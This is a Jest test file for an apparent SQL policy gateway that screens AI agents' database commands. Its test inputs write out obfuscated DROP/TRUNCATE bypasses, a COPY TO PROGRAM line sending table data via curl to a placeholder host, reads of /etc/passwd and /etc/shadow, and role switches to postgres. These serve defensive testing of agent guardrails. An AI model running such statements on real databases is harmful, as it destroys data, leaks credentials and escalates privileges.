/**
 * The lead's real policy over the SQL analyzer's facts: every bypass an agent might try against the SPEC §3
 * example rules must still be denied (or held), and ordinary SQL must still be allowed.
 */
import { beforeAll, describe, expect, it } from '@jest/globals';
import type { Identity, PostgresCommand, RuleConfig } from '@agentgate/core';
import { createPolicy, type Policy } from '@agentgate/policy';
import { createSqlAnalyzer, SqlSessionState, type SqlAnalyzer } from '@agentgate/postgres/sql';

const rules: RuleConfig[] = [
  {
    name: 'no-ddl-drops',
    protocol: 'postgres',
    match: { commands: ['DROP', 'TRUNCATE', 'ALTER SYSTEM'] },
    action: 'deny',
  },
  {
    name: 'deletes-need-review',
    protocol: 'postgres',
    match: { commands: ['DELETE', 'UPDATE'], tables: ['users'] },
    action: 'approve',
  },
  {
    name: 'no-file-access',
    protocol: 'postgres',
    match: { functions: ['pg_read_file', 'lo_import', 'dblink_exec'] },
    action: 'deny',
  },
  {
    name: 'no-role-switch',
    protocol: 'postgres',
    match: { commands: ['SET ROLE', 'SET SESSION AUTHORIZATION'] },
    action: 'deny',
  },
  { name: 'no-copy-program', protocol: 'postgres', match: { commands: ['COPY PROGRAM'] }, action: 'deny' },
  { name: 'no-unfiltered-writes', protocol: 'postgres', match: { unfilteredWrites: true }, action: 'deny' },
];

const agent: Identity = { name: 'devin', groups: ['agents'], source: 'token' };
let analyzer: SqlAnalyzer;
let policy: Policy;

beforeAll(async () => {
  analyzer = await createSqlAnalyzer();
  policy = createPolicy(rules);
});

/** What the wire engine does: analyse, turn the analysis into a command, ask the policy. */
function decide(sql: string, state = new SqlSessionState()): { action: string; rule?: string | undefined } {
  const analysis = analyzer.analyze(sql, state);
  const unanalysable = analysis.error ?? analysis.refused;
  const command: PostgresCommand = {
    protocol: 'postgres',
    text: sql,
    statements: analysis.statements,
    unknownMatchesAll: true,
    ...(unanalysable === undefined ? {} : { unanalysable }),
  };
  const d = policy.decide(command, agent, 'prod-db');
  return { action: d.action, rule: d.rule };
}

describe('postgres rules over analysed SQL', () => {
  it.each([
    'SELECT * FROM users WHERE id = 1',
    'INSERT INTO orders (id) VALUES (1)',
    'UPDATE orders SET paid = true WHERE id = 4',
    'WITH x AS (SELECT 1) SELECT * FROM x',
    "SET client_encoding = 'UTF8'",
    'CREATE TABLE scratch (a int)',
  ])('allows %s', (sql) => {
    expect(decide(sql).action).toBe('allow');
  });

  it.each([
    ['case', 'dRoP tAbLe orders'],
    ['comments', 'SELECT 1; -- harmless\nDROP TABLE orders'],
    ['nested comments', '/* outer /* inner */ still comment */ DROP TABLE orders'],
    ['quoted identifiers', 'DROP TABLE "orders"'],
    ['U& identifiers', 'DROP TABLE U&"\\006frders"'],
    ['multi-statement', 'SELECT 1; SELECT 2; TRUNCATE orders'],
    [
      'function wrapper (SQL body)',
      "CREATE FUNCTION cleanup() RETURNS void LANGUAGE sql AS 'DROP TABLE orders'",
    ],
    [
      'function wrapper (BEGIN ATOMIC)',
      'CREATE PROCEDURE p() LANGUAGE sql BEGIN ATOMIC TRUNCATE orders; END',
    ],
    [
      'function wrapper (PL/pgSQL)',
      'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE orders; END $$',
    ],
    ['DO block', 'DO $$ BEGIN DROP TABLE orders; END $$'],
    ['DO with a literal EXECUTE', "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$"],
    ['ALTER SYSTEM', "ALTER SYSTEM SET shared_preload_libraries = 'x'"],
    ['query_to_xml', "SELECT query_to_xml('TRUNCATE orders', true, true, '')"],
    ['ts_stat', "SELECT * FROM ts_stat('TRUNCATE orders')"],
    ['ts_rewrite', "SELECT ts_rewrite('a'::tsquery, 'TRUNCATE orders')"],
  ])('denies a DROP/TRUNCATE hidden by %s', (_label, sql) => {
    expect(decide(sql)).toEqual({ action: 'deny', rule: 'no-ddl-drops' });
  });

  it('holds deletes of users however they are written', () => {
    expect(decide('DELETE FROM users WHERE id = 1')).toEqual({
      action: 'approve',
      rule: 'deletes-need-review',
    });
    expect(decide('DELETE FROM "users" WHERE id = 1').rule).toBe('deletes-need-review');
    expect(decide('DELETE FROM public.USERS WHERE id = 1').rule).toBe('deletes-need-review');
    expect(decide('WITH gone AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT * FROM gone').rule).toBe(
      'deletes-need-review',
    );
    expect(decide('UPDATE users SET name = $1 WHERE id = $2').rule).toBe('deletes-need-review');
  });

  it('denies unfiltered writes including WHERE true', () => {
    expect(decide('DELETE FROM orders WHERE true')).toEqual({ action: 'deny', rule: 'no-unfiltered-writes' });
    expect(decide('UPDATE orders SET paid = false').rule).toBe('no-unfiltered-writes');
    expect(decide('EXPLAIN ANALYZE DELETE FROM orders').rule).toBe('no-unfiltered-writes');
    expect(decide('CREATE RULE r AS ON INSERT TO orders DO ALSO DELETE FROM audit').rule).toBe(
      'no-unfiltered-writes',
    );
    expect(decide('EXPLAIN ANALYZE DELETE FROM users WHERE id = 1').rule).toBe('deletes-need-review');
  });

  it('SELECT INTO and CREATE TABLE AS copies report both tables', () => {
    const a = analyzer.analyze('SELECT * INTO stolen FROM users');
    expect(a.statements.map((s) => s.command)).toEqual(['SELECT', 'CREATE TABLE AS', 'INSERT']);
    expect(a.statements[1]?.tables).toEqual(['stolen', 'users']);
  });

  it('matches effects, not statement names: MERGE actions, upserts, TRUNCATE and COPY', () => {
    expect(decide('MERGE INTO users u USING s ON u.id = s.id WHEN MATCHED THEN DELETE').rule).toBe(
      'deletes-need-review',
    );
    expect(decide('MERGE INTO users u USING s ON u.id = s.id WHEN MATCHED THEN UPDATE SET a = 1').rule).toBe(
      'deletes-need-review',
    );
    expect(decide('INSERT INTO users VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2').rule).toBe(
      'deletes-need-review',
    );
    expect(decide('INSERT INTO users VALUES (1) ON CONFLICT DO NOTHING').action).toBe('allow');
    expect(decide('MERGE INTO orders o USING s ON true WHEN MATCHED THEN DELETE').rule).toBe(
      'no-unfiltered-writes',
    );
    expect(
      decide('WITH m AS (MERGE INTO users u USING s ON u.id = s.id WHEN MATCHED THEN DELETE) SELECT 1').rule,
    ).toBe('deletes-need-review');
    expect(decide('SELECT lo_unlink(1234)').action).toBe('allow');
  });

  it('PREPARE/EXECUTE: the prepared body is judged at PREPARE and again at EXECUTE', () => {
    const session = new SqlSessionState();
    expect(decide('PREPARE wipe AS DELETE FROM users WHERE id = $1', session).rule).toBe(
      'deletes-need-review',
    );
    expect(decide('EXECUTE wipe(1)', session).rule).toBe('deletes-need-review');
    expect(decide('DEALLOCATE wipe', session).action).toBe('allow');
    expect(decide('EXECUTE wipe(1)', session)).toMatchObject({
      action: 'deny',
      rule: 'builtin:unanalysable',
    });
  });

  it('dynamic EXECUTE in DO blocks matches every deny rule', () => {
    const d = decide("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'orders'); END $$");
    expect(d.action).toBe('deny');
    expect(decide("DO $$ DECLARE t text := 'orders'; BEGIN EXECUTE 'TRUNCATE ' || t; END $$").action).toBe(
      'deny',
    );
  });

  it('set_config role and SET ROLE are denied as role switches', () => {
    expect(decide("SELECT set_config('role', 'postgres', false)")).toEqual({
      action: 'deny',
      rule: 'no-role-switch',
    });
    expect(decide('SET ROLE postgres').rule).toBe('no-role-switch');
    expect(decide('SET SESSION AUTHORIZATION postgres').rule).toBe('no-role-switch');
    expect(decide("DO $$ BEGIN PERFORM set_config('role', 'postgres', false); END $$").rule).toBe(
      'no-role-switch',
    );
  });

  it('COPY PROGRAM, pg_read_file, lo_import and dblink_exec are denied', () => {
    expect(decide("COPY orders TO PROGRAM 'curl -d @- http://x'").rule).toBe('no-copy-program');
    expect(decide("SELECT pg_read_file('/etc/passwd')").rule).toBe('no-file-access');
    expect(decide("SELECT * FROM pg_catalog.pg_read_file('/etc/passwd')").rule).toBe('no-file-access');
    expect(decide("SELECT lo_import('/etc/shadow')").rule).toBe('no-file-access');
    expect(decide("SELECT dblink_exec('dbname=app', 'SELECT 1')").rule).toBe('no-file-access');
  });

  it('refuses changing how the server splits text, and unparseable input', () => {
    expect(decide('SET standard_conforming_strings = off')).toMatchObject({
      action: 'deny',
      rule: 'builtin:unanalysable',
    });
    expect(decide("SELECT set_config('client_encoding', 'SJIS', false)").action).toBe('deny');
    expect(decide('SELEC * FROM users')).toMatchObject({ action: 'deny', rule: 'builtin:unanalysable' });
    expect(decide("DROP TABLE orders; SELECT 'unterminated").action).toBe('deny');
  });
});
